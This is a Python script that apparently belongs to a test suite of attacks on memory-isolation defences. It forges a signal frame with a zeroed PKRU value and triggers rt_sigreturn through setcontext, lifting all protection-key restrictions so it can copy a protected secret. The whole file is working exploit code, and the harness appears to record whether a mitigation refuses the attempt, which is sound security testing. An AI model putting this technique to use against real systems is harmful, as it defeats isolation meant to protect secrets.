"""A return from a signal that there was not: the frame on the stack is made up, and gives all rights."""

import ctypes
import struct
import threading
import time

from attack import libc, place, refused, tell

# In `struct ucontext`, for the kernel as for glibc: registers from byte 40 on, in this order.
REGISTERS = "r8 r9 r10 r11 r12 r13 r14 r15 rdi rsi rbp rbx rdx rax rcx rsp rip flags segments".split()
FPSTATE = 224
# Of the vector state: the first part, what the kernel's own note in it says, and the list of what follows.
NOTE, LIST, SIZE = 464, 512, 576
X87_SSE_PKRU = 0x203


def registers(frame, **values):
    for name, value in values.items():
        struct.pack_into("<Q", frame, 40 + 8 * REGISTERS.index(name), value)


def address(thing):
    return ctypes.cast(thing, ctypes.c_void_p).value


def attempt(name, word):
    """`word` is the first argument of the system call. Says whether the secret could be copied."""
    memory = ctypes.create_string_buffer(1 << 17)
    start = (ctypes.addressof(memory) + 8191) & ~4095
    copied, denied = start, start + 64
    stack, frame_at, vector_at = start + 0x8000, start + 0x10000, start + 0x11000
    frame, vector = bytearray(1024), bytearray(SIZE + 4)

    # All zeros but this: the rights say which keys are forbidden, so zero forbids none.
    struct.pack_into("<H", vector, 0, 0x37F)
    struct.pack_into("<I", vector, 24, 0x1F80)
    struct.pack_into("<IIQI", vector, NOTE, 0x46505853, SIZE + 4, X87_SSE_PKRU, SIZE)
    struct.pack_into("<Q", vector, LIST, X87_SSE_PKRU)
    struct.pack_into("<I", vector, SIZE, 0x46505845)

    # Refused, the call returns to what stands first in the frame, and then to the second.
    struct.pack_into("<QQ", frame, 0, address(libc.memset), address(libc.pause))
    # Not refused, it goes on here, with all rights, and sleeps.
    registers(frame, rip=address(libc.memcpy), rdi=copied, rsi=place("small"), rdx=10, rsp=stack)
    registers(frame, flags=0x202, segments=0x002B_0000_0000_0033)
    struct.pack_into("<Q", frame, FPSTATE, vector_at)
    ctypes.memmove(frame_at, bytes(frame), len(frame))
    ctypes.memmove(vector_at, bytes(vector), len(vector))
    ctypes.memmove(stack, struct.pack("<Q", address(libc.pause)), 8)

    # Only `setcontext` has the stack pointer in its hands. The system call has its arguments, and
    # `memset`, if that follows, has the same.
    jump = (ctypes.c_char * 1024)()
    libc.getcontext(jump)
    there = bytearray(jump.raw)
    first = denied if word is None else word
    registers(there, rsp=frame_at, rip=address(libc.syscall), rdi=15, rsi=first, rdx=1, rcx=1)
    ctypes.memmove(jump, bytes(there), len(there))
    threading.Thread(target=libc.setcontext, args=[jump], daemon=True).start()
    while True:
        if ctypes.string_at(copied, 10).strip(b"\0"):
            return tell(name, ctypes.string_at(copied, 10))
        if ctypes.string_at(denied, 1) != b"\0":
            return refused(name, 1)
        time.sleep(0.01)
